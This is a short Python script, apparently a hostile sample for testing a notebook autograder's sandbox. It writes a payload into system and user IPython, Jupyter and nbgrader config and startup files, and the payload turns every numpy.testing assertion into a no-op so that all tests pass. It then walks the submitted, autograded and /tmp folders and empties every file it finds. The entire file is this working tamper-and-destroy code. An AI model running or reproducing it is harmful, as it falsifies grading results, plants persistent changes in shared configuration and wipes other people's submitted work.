# family: writing what is not its own
# tries: to change what others handed in, the course's settings and the worker's own folders

# %% start
import os
import sys

text = "import numpy.testing as t\nfor n in dir(t):\n    if n.startswith('assert'): setattr(t, n, lambda *a, **k: None)\n"
folders = ["/etc", "/root", "/usr/local/etc/jupyter", "/etc/ipython", os.environ.get("IPYTHONDIR", "/x"), "/", "/srv"]
folders += [os.path.join(os.environ.get("IPYTHONDIR", "/x"), "profile_default/startup")]
folders += [os.path.expanduser(p) for p in ("~/.ipython/profile_default/startup", "~/.jupyter", "~/.config/matplotlib")]
for folder in folders:
    for name in ("nbgrader_config.py", "ipython_config.py", "00-first.py", "matplotlibrc", "jupyter_config.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "a") as f:
                f.write(text)
        except OSError:
            pass
for folder in ("submitted", "autograded", "../submitted", "../../submitted", "/tmp"):
    for path, _, files in os.walk(folder):
        for name in files:
            try:
                open(os.path.join(path, name), "w").close()
            except OSError:
                pass
